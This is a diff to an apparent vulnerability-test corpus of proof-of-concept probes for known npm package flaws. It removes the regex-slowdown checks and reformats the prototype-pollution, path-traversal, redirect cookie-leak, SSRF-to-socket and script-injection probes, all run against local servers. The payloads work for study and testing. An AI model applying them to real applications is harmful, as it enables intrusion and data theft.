@@ -1,22 +1,14 @@
 /**
- * Further real holes in npm packages, in the form of the shared corpus: `setup(library, require)` keeps what an application keeps, `poc(context)` tries the hole on exactly that.
+ * Further real holes in npm packages, other than slow regular expressions.
+ *
+ * In the form of the shared corpus: `setup(library, require)` keeps what an application keeps, `poc(context)` tries the hole on exactly that.
  */
 "use strict";
 const http = require("node:http");
 
-const slow = (action, ms = 150) => {
-  const start = process.hrtime.bigint();
-  try {
-    action();
-  } catch {
-    // A refusal of the input is an answer too; only the time counts.
-  }
-  const took = Number(process.hrtime.bigint() - start) / 1e6;
-  return { vuln: took > ms, info: `${took.toFixed(1)}ms` };
-};
 const clean = (key) => {
   const value = {}[key];
-  for (const constructor of [Object, Function, Array, String, Number]) delete constructor.prototype[key];
+  for (const owner of [Object, Function, Array, String, Number]) delete owner.prototype[key];
   return value;
 };
 /** Whether the action pollutes the prototype of all objects. */
@@ -71,10 +63,6 @@ const redirected = async (request, header) => {
 const json = (value) => JSON.stringify(value);
 
 module.exports = {
-  "axios-trim": {
-    setup: (_library, load) => ({ trim: load("x-axios-trim/lib/utils").trim }),
-    poc: ({ trim }) => slow(() => trim(`a${" ".repeat(60000)}b`)),
-  },
   "axios-url": {
     setup: (library) => ({ client: library.create({ timeout: 2000 }) }),
     poc: async ({ client }) => {
@@ -89,7 +77,9 @@ module.exports = {
     },
   },
   "axios-absolute": {
-    setup: (library) => ({ client: library.create({ baseURL: "http://127.0.0.1:9/", allowAbsoluteUrls: false, timeout: 2000 }) }),
+    setup: (library) => ({
+      client: library.create({ baseURL: "http://127.0.0.1:9/", allowAbsoluteUrls: false, timeout: 2000 }),
+    }),
     poc: async ({ client }) => {
       let reached = false;
       const server = await serve((_message, response) => {
@@ -125,8 +115,13 @@ module.exports = {
     setup: (library) => ({ parse: library.parse }),
     poc: ({ parse }) => {
       const value = parse("a[x]=1&a[__proto__]=y&a[length]=100000000", { allowPrototypes: true });
-      const plain = parse("categories[__proto__]=cats&categories[__proto__]=dogs&categories[some][json]=toInject", { allowPrototypes: true });
-      return { vuln: Array.isArray(Object.getPrototypeOf(plain.categories)) || Array.isArray(Object.getPrototypeOf(value.a)), info: json(plain) };
+      const plain = parse("categories[__proto__]=cats&categories[__proto__]=dogs&categories[some][json]=toInject", {
+        allowPrototypes: true,
+      });
+      return {
+        vuln: Array.isArray(Object.getPrototypeOf(plain.categories)) || Array.isArray(Object.getPrototypeOf(value.a)),
+        info: json(plain),
+      };
     },
   },
   ejs: {
@@ -149,27 +144,6 @@ module.exports = {
       return { vuln: globalThis.PW === 1 };
     },
   },
-  marked: {
-    setup: (library) => ({ parse: library.parse }),
-    poc: ({ parse }) => slow(() => parse(`[x]:${" ".repeat(1000)}x ${" ".repeat(1000)}x`), 300),
-  },
-  "ansi-regex": {
-    setup: (library) => ({ make: library }),
-    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(8000)).replace(make(), "")),
-  },
-  "ansi-regex-esm": {
-    esm: 1,
-    setup: (library) => ({ make: library.default }),
-    poc: ({ make }) => slow(() => "\u001B[".concat(";".repeat(8000)).replace(make(), "")),
-  },
-  "glob-parent": {
-    setup: (library) => ({ parent: library }),
-    poc: ({ parent }) => slow(() => parent(`{${"/".repeat(1200)}`)),
-  },
-  "path-parse": {
-    setup: (library) => ({ posix: library.posix, parse: library }),
-    poc: ({ posix }) => slow(() => posix(`${"/".repeat(60000)}x`.concat("\n/"))),
-  },
   ini: {
     setup: (library) => ({ parse: library.parse }),
     poc: ({ parse }) => pollutes(() => parse("[__proto__]\npolluted = 1\n")),
@@ -186,58 +160,49 @@ module.exports = {
     setup: (library) => ({ set: library }),
     poc: ({ set }) => pollutes(() => set({}, [["__proto__"], "polluted"], 1)),
   },
-  "ua-parser-js": {
-    setup: (library) => ({ Parser: library, parser: new library() }),
-    poc: ({ parser }) => slow(() => parser.setUA(`x${" ".repeat(60000)}x`).getResult()),
-  },
-  "normalize-url": {
-    setup: (library) => ({ normalize: library }),
-    poc: ({ normalize }) => slow(() => normalize(`data:${",#".repeat(20000)}\nx`)),
-  },
-  "color-string": {
-    setup: (library) => ({ hwb: library.get.hwb, get: library.get }),
-    poc: ({ get }) => slow(() => get(`hwb(${"1".repeat(60000)}`)),
-  },
-  postcss: {
-    setup: (library) => ({ parse: library.parse }),
-    poc: ({ parse }) => {
-      const root = attempt(() => parse("@font-face{ font:(\r/*);} a { b: c } /*.*/"));
-      return { vuln: root.error === undefined, info: json(root.nodes?.map((node) => node.toString())) };
-    },
-  },
   nanoid: {
     setup: (library) => ({ nanoid: library.nanoid, customAlphabet: library.customAlphabet }),
     poc: ({ nanoid }) => {
       nanoid(0.5);
       const length = attempt(() => nanoid(1.5)).length;
       attempt(() => nanoid(-1.5));
-      const ids = new Set(Array.from({ length: 5 }, () => { nanoid(0.1); return nanoid(); }));
+      const ids = new Set(
+        Array.from({ length: 5 }, () => {
+          nanoid(0.1);
+          return nanoid();
+        }),
+      );
       return { vuln: [...ids].some((id) => /undefined/.test(id)) || length !== 1, info: `${length} ${[...ids][0]}` };
     },
   },
-  "nanoid-esm": { esm: 1, setup: (library) => ({ nanoid: library.nanoid }), poc: (context) => module.exports.nanoid.poc(context) },
-  minimatch: {
-    setup: (library) => ({ match: library, expand: library.braceExpand }),
-    poc: ({ expand }) => slow(() => expand(`{${"{".repeat(0)}${"{a".repeat(0)}${"{".repeat(50000)}\n`)),
+  "nanoid-esm": {
+    esm: 1,
+    setup: (library) => ({ nanoid: library.nanoid }),
+    poc: (context) => module.exports.nanoid.poc(context),
   },
   immer: {
     setup: (library) => ({ applyPatches: library.applyPatches, enable: library.enablePatches() }),
-    poc: ({ applyPatches }) => pollutes(() => applyPatches({}, [{ op: "add", path: [["__proto__"], "polluted"], value: 1 }])),
+    poc: ({ applyPatches }) =>
+      pollutes(() => applyPatches({}, [{ op: "add", path: [["__proto__"], "polluted"], value: 1 }])),
   },
   async: {
     setup: (library) => ({ mapValues: library.mapValues }),
     poc: async ({ mapValues }) => {
-      const result = await new Promise((resolve) => mapValues(JSON.parse('{"__proto__":{"polluted":1}}'), (value, _key, done) => done(null, value), (_error, value) => resolve(value)));
+      const result = await new Promise((resolve) =>
+        mapValues(
+          JSON.parse('{"__proto__":{"polluted":1}}'),
+          (value, _key, done) => done(null, value),
+          (_error, value) => resolve(value),
+        ),
+      );
       return { vuln: result.polluted === 1 };
     },
   },
   "loader-utils": {
     setup: (library) => ({ parseQuery: library.parseQuery }),
-    poc: ({ parseQuery }) => ({ vuln: attempt(() => parseQuery("?__proto__=x")) && Object.getPrototypeOf(parseQuery("?a=1")) !== null }),
-  },
-  ssri: {
-    setup: (library) => ({ parse: library.parse }),
-    poc: ({ parse }) => slow(() => parse(`sha512-${"A".repeat(44)}${"?".repeat(26)}\u00e9`, { strict: true })),
+    poc: ({ parseQuery }) => ({
+      vuln: attempt(() => parseQuery("?__proto__=x")) && Object.getPrototypeOf(parseQuery("?a=1")) !== null,
+    }),
   },
   "property-expr": {
     setup: (library) => ({ setter: library.setter }),
@@ -251,32 +216,33 @@ module.exports = {
     setup: (library) => ({ library, util: library.util }),
     poc: ({ util }) => pollutes(() => util.setProperty({}, "__proto__.polluted", 1)),
   },
-  xml2js: {
-    setup: (library) => ({ parseString: library.parseString, parser: new library.Parser() }),
-    poc: async ({ parseString, parser }) => {
-      const found = [];
-      for (const parse of [parseString, (text, done) => parser.parseString(text, done)]) {
-        await new Promise((resolve) => parse("<root><__proto__><polluted>1</polluted></__proto__></root>", (_error, value) => {
-          found.push(Array.isArray(Object.getPrototypeOf(value?.root ?? {})));
-          resolve();
-        }));
-      }
-      return { vuln: found.some(Boolean), info: json(found) };
-    },
-  },
   send: {
     setup: (library) => ({ send: library }),
     poc: async ({ send }) => {
       const folder = require("node:fs").mkdtempSync(`${require("node:os").tmpdir()}/send-`);
       require("node:fs").mkdirSync(`${folder}/<b>`);
-      const server = await serve((request, response) => send(request, decodeURI(request.url), { root: folder }).pipe(response));
+      const server = await serve((request, response) =>
+        send(request, decodeURI(request.url), { root: folder }).pipe(response),
+      );
       const text = await new Promise((resolve) => {
         send({ method: "GET", url: "/", headers: {} }, "/%3Cb%3E", { root: folder })
           .on("error", (error) => resolve(String(error)))
-          .pipe(Object.assign(new (require("node:events"))(), {
-            headers: {}, setHeader(name, value) { this.headers[name] = value; }, getHeader(name) { return this.headers[name]; }, removeHeader() {}, getHeaderNames() { return Object.keys(this.headers); },
-            end: (body) => resolve(String(body)),
-          }));
+          .pipe(
+            Object.assign(new (require("node:events"))(), {
+              headers: {},
+              setHeader(name, value) {
+                this.headers[name] = value;
+              },
+              getHeader(name) {
+                return this.headers[name];
+              },
+              removeHeader() {},
+              getHeaderNames() {
+                return Object.keys(this.headers);
+              },
+              end: (body) => resolve(String(body)),
+            }),
+          );
       });
       end(server);
       require("node:fs").rmSync(folder, { recursive: true });
@@ -285,19 +251,9 @@ module.exports = {
   },
   cookie: {
     setup: (library) => ({ serialize: library.serialize }),
-    poc: ({ serialize }) => ({ vuln: attempt(() => serialize("a=<script>alert(1)</script>", "x")).error === undefined }),
-  },
-  luxon: {
-    setup: (library) => ({ DateTime: library.DateTime }),
-    poc: ({ DateTime }) => slow(() => DateTime.fromRFC2822(`${"(".repeat(40000)}`)),
-  },
-  "http-cache-semantics": {
-    setup: (library) => ({ Policy: library }),
-    poc: ({ Policy }) => slow(() => new Policy({ headers: {} }, { headers: { "cache-control": `a${" ".repeat(25000)}b` } })),
-  },
-  "brace-expansion": {
-    setup: (library) => ({ expand: library }),
-    poc: ({ expand }) => slow(() => expand(`{a}${",".repeat(60000)}\u0000`)),
+    poc: ({ serialize }) => ({
+      vuln: attempt(() => serialize("a=<script>alert(1)</script>", "x")).error === undefined,
+    }),
   },
   "form-data": {
     setup: (library) => ({ FormData: library, form: new library() }),
@@ -338,13 +294,20 @@ module.exports = {
   },
   netmask: {
     setup: (library) => ({ Netmask: library.Netmask }),
-    poc: ({ Netmask }) => ({ vuln: attempt(() => new Netmask("010.0.0.0/8").base) !== "8.0.0.0", info: String(attempt(() => new Netmask("010.0.0.0/8").base)) }),
+    poc: ({ Netmask }) => ({
+      vuln: attempt(() => new Netmask("010.0.0.0/8").base) !== "8.0.0.0",
+      info: String(attempt(() => new Netmask("010.0.0.0/8").base)),
+    }),
   },
   xmldom: {
     setup: (library) => ({ parser: new library.DOMParser({ errorHandler: () => undefined }) }),
     poc: ({ parser }) => {
       const document = attempt(() => parser.parseFromString("<a/><b/>", "text/xml"));
-      const roots = document?.childNodes ? Array.from({ length: document.childNodes.length }, (_, index) => document.childNodes[index]).filter(({ nodeType }) => nodeType === 1).length : 0;
+      const roots = document?.childNodes
+        ? Array.from({ length: document.childNodes.length }, (_, index) => document.childNodes[index]).filter(
+            ({ nodeType }) => nodeType === 1,
+          ).length
+        : 0;
       return { vuln: roots > 1, info: String(roots) };
     },
   },
@@ -354,10 +317,12 @@ module.exports = {
       const path = `${require("node:os").tmpdir()}/got-${process.pid}-${fresh()}.sock`;
       let reached = false;
       const inner = await new Promise((resolve) => {
-        const server = http.createServer((_message, response) => {
-          reached = true;
-          response.end("secret");
-        }).listen(path, () => resolve(server));
+        const server = http
+          .createServer((_message, response) => {
+            reached = true;
+            response.end("secret");
+          })
+          .listen(path, () => resolve(server));
       });
       const outer = await serve((_message, response) => {
         response.writeHead(302, { location: `http://unix:${path}:/` });
@@ -381,19 +346,24 @@ module.exports = {
     setup: (library) => ({ util: library.util }),
     poc: ({ util }) => pollutes(() => util.setPath({}, ["__proto__", "polluted"], 1)),
   },
-  koa: {
-    setup: (library) => ({ app: Object.assign(new library(), { proxy: true }) }),
-    poc: ({ app }) => {
-      const request = Object.assign(Object.create(app.request), { app, req: { headers: { "x-forwarded-proto": `a${" ".repeat(60000)}b` }, socket: {} } });
-      return slow(() => request.protocol);
-    },
-  },
   ws8: {
     setup: (library) => ({ wss: new library.WebSocketServer({ port: 0, host: "127.0.0.1" }) }),
     poc: ({ wss }) =>
       new Promise((resolve) => {
-        const request = { method: "GET", headers: { "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==", "sec-websocket-version": "13" }, url: "/" };
-        const socket = Object.assign(new (require("node:stream").Duplex)({ read() {}, write(_chunk, _encoding, done) { done(); } }), { setTimeout() {}, setNoDelay() {} });
+        const request = {
+          method: "GET",
+          headers: { "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==", "sec-websocket-version": "13" },
+          url: "/",
+        };
+        const socket = Object.assign(
+          new (require("node:stream").Duplex)({
+            read() {},
+            write(_chunk, _encoding, done) {
+              done();
+            },
+          }),
+          { setTimeout() {}, setNoDelay() {} },
+        );
         try {
           wss.handleUpgrade(request, socket, Buffer.alloc(0), () => {});
           resolve({ vuln: false });
@@ -404,7 +374,9 @@ module.exports = {
   },
   "validator-url": {
     setup: (library) => ({ isURL: library.isURL }),
-    poc: ({ isURL }) => ({ vuln: isURL("javascript:alert(1);a=';@example.com/alert(1)'", { require_protocol: false }) === true }),
+    poc: ({ isURL }) => ({
+      vuln: isURL("javascript:alert(1);a=';@example.com/alert(1)'", { require_protocol: false }) === true,
+    }),
   },
   "yargs-parser": {
     setup: (library) => ({ parse: library }),
@@ -440,23 +412,28 @@ module.exports = {
   },
   "json-schema": {
     setup: (library) => ({ validate: library.validate }),
-    poc: ({ validate }) => pollutes(() => validate({}, JSON.parse('{"type":"object","properties":{"__proto__":{"type":"object","properties":{"polluted":{"type":"string","default":"1"}}}}}'))),
-  },
-  cookiejar: {
-    setup: (library) => ({ Cookie: library.Cookie, cookie: new library.Cookie("a=b") }),
-    poc: ({ cookie, Cookie }) => slow(() => { cookie.parse(`a${" ".repeat(60000)}`); Cookie.parse?.("x"); }),
-  },
-  "markdown-it": {
-    setup: (library) => ({ md: library() }),
-    poc: ({ md }) => slow(() => md.render(`x ${" ".repeat(40000)} x  \nx`)),
-  },
-  "css-what": {
-    setup: (library) => ({ parse: library.parse }),
-    poc: ({ parse }) => slow(() => parse(`[a${" ".repeat(2500)}`)),
+    poc: ({ validate }) =>
+      pollutes(() =>
+        validate(
+          {},
+          JSON.parse(
+            '{"type":"object","properties":{"__proto__":{"type":"object","properties":{"polluted":{"type":"string","default":"1"}}}}}',
+          ),
+        ),
+      ),
   },
   "simple-get": {
     setup: (library) => ({ get: library }),
-    poc: ({ get }) => redirected((url) => new Promise((resolve, reject) => get({ url, headers: { cookie: "secret" } }, (error, response) => (error ? reject(error) : (response.resume(), resolve())))), "cookie"),
+    poc: ({ get }) =>
+      redirected(
+        (url) =>
+          new Promise((resolve, reject) =>
+            get({ url, headers: { cookie: "secret" } }, (error, response) =>
+              error ? reject(error) : (response.resume(), resolve()),
+            ),
+          ),
+        "cookie",
+      ),
   },
   "url-parse": {
     setup: (library) => ({ Url: library }),
@@ -464,13 +441,12 @@ module.exports = {
   },
   "js-yaml": {
     setup: (library) => ({ load: library.load }),
-    poc: ({ load }) => ({ vuln: load('a: &x\n  __proto__: {polluted: 1}\nb:\n  <<: *x').b.polluted === 1 || attempt(() => load("<<: {__proto__: {polluted: 1}}")).polluted === 1 }),
+    poc: ({ load }) => ({
+      vuln:
+        load("a: &x\n  __proto__: {polluted: 1}\nb:\n  <<: *x").b.polluted === 1 ||
+        attempt(() => load("<<: {__proto__: {polluted: 1}}")).polluted === 1,
+    }),
   },
-  "octokit-endpoint": {
-    setup: (library) => ({ endpoint: library.endpoint, parse: library.endpoint.parse }),
-    poc: ({ parse }) => slow(() => parse({ method: "POST", url: "/graphql", baseUrl: "https://api.github.com", headers: { accept: `${"A".repeat(16000)}-`, "user-agent": "x" }, mediaType: { previews: ["x"], format: "y" } })),
-  },
-  "octokit-endpoint-esm": { esm: 1, setup: (library) => ({ parse: library.endpoint.parse }), poc: (context) => module.exports["octokit-endpoint"].poc(context) },
   fastify: {
     setup: (library) => {
       const app = library();
@@ -479,7 +455,9 @@ module.exports = {
     },
     poc: async ({ app }) => {
       const answer = await Promise.race([
-        app.inject({ method: "POST", url: "/", headers: { "content-type": "constructor" }, payload: "x" }).catch((error) => ({ statusCode: error.message })),
+        app
+          .inject({ method: "POST", url: "/", headers: { "content-type": "constructor" }, payload: "x" })
+          .catch((error) => ({ statusCode: error.message })),
         new Promise((resolve) => setTimeout(resolve, 500, { statusCode: "hangs" })),
       ]);
       return { vuln: answer.statusCode !== 415, info: String(answer.statusCode) };
@@ -494,15 +472,6 @@ module.exports = {
       attempt(() => moment.locale(`../../../../../../../../../../../../../../..${file.slice(0, -3)}`));
       require("node:fs").rmSync(file);
       return { vuln: globalThis.PW === 1 };
-    },
-  },
-  nodemailer: {
-    setup: (library, load) => ({ transport: library.createTransport({ streamTransport: true, attachDataUrls: true }), shared: load("x-nodemailer/lib/shared") }),
-    poc: async ({ transport }) => {
-      const start = process.hrtime.bigint();
-      await transport.sendMail({ to: "a@example.com", html: `<img src="data:image/png;${";".repeat(20000)}"` , text: "x" }).catch(() => undefined);
-      const took = Number(process.hrtime.bigint() - start) / 1e6;
-      return { vuln: took > 300, info: `${took}ms` };
     },
   },
   "undici-fetch": {
